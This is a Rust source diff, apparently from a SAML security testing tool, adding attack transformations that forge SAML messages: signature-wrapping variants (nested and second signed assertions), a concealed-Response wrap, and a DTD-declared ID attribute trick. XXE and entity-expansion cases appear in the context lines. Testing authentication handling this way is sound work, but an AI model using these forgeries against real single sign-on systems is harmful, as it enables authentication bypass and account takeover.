@@ -35,6 +35,7 @@ fn acts_on_assertion(attack: Attack) -> bool {
         attack,
         Attack::Xsw1
             | Attack::Xsw2
+            | Attack::ConcealedResponse
             | Attack::DoctypeFakeAssertion
             | Attack::Xxe
             | Attack::EntityExpansion
@@ -409,6 +410,56 @@ fn transform(
                 )],
             ));
         }
+        Attack::NestedAfterSubject => {
+            let i = signed_assertion(root, attack)?;
+            let a = element_at(root, i)?;
+            let (orig, sig) = without_signature(&a);
+            let sig = sig.ok_or_else(|| needs(attack, "a signed assertion"))?;
+            let mut evil = ctx.evil(&a, Some(&new_id()))?;
+            evil.insert_after_child(NS_SAML, "Issuer", sig);
+            // Right after the evil Subject, so the evil NameID still comes first.
+            evil.insert_after_child(NS_SAML, "Subject", orig);
+            root.children[i] = Node::Element(evil);
+        }
+        Attack::SecondSignedAssertion => {
+            let i = signed_assertion(root, attack)?;
+            let a = element_at(root, i)?;
+            let mut evil = ctx.evil(&a, Some(&new_id()))?;
+            ctx.sign_as_attacker(&mut evil)?;
+            root.children.insert(i, Node::Element(evil));
+        }
+        Attack::ConcealedResponse => {
+            if signature_index(root).is_none() {
+                return Err(needs(attack, "a signed Response"));
+            }
+            let genuine = root.clone();
+            let mut evil = ctx.evil(root, Some(&new_id()))?;
+            // A fresh ID for the evil assertion too: the genuine one, inside the genuine
+            // Response, keeps its own, and IDs stay unique.
+            if let Some(a) = evil.child_mut(NS_SAML, "Assertion") {
+                a.set_attr("ID", &new_id());
+            }
+            evil.children.push(Node::Element(genuine));
+            *root = evil;
+        }
+        Attack::DoctypeIdAttribute => {
+            let i = signed_assertion(root, attack)?;
+            let a = element_at(root, i)?;
+            // Same ID as the genuine one: which element an ID lookup finds is the test.
+            let evil = ctx.evil(&a, None)?;
+            root.children[i] = Node::Element(evil);
+            let ext = Element::new(Some("samlp"), "Extensions", Some(NS_SAMLP)).with_child(a);
+            // Schema order: Issuer, Signature, Extensions, Status; first in document order,
+            // so a DTD-declared ID registers the genuine element before the evil one.
+            let at = root.child_index(|e| e.is(NS_SAMLP, "Status")).unwrap_or(i);
+            root.children.insert(at, Node::Element(ext));
+            let prefix = a_prefix(root);
+            let root_name = root.qname();
+            doc.doctype = Some(doctype(
+                &root_name,
+                &[format!("<!ATTLIST {prefix}Assertion ID ID #IMPLIED>")],
+            ));
+        }
         Attack::Xxe => {
             let canary = ctx.canary()?.to_string();
             entity_in_issuer(root, "xxe");
@@ -463,6 +514,14 @@ fn transform(
         Attack::AttackerKeyValue | Attack::Junk | Attack::Truncated | Attack::WrongEncoding => {}
     }
     Ok(())
+}
+
+/// The qualified-name prefix (`saml:`, or nothing) of the first assertion below `root`: a DTD
+/// declares attributes by the name as written, not by namespace.
+fn a_prefix(root: &Element) -> String {
+    root.find(&|e| e.is(NS_SAML, "Assertion"))
+        .and_then(|e| e.prefix.clone())
+        .map_or_else(String::new, |p| format!("{p}:"))
 }
 
 /// `<!DOCTYPE root [ decls ]>` content. The DTD is not XML markup the writer can build, so
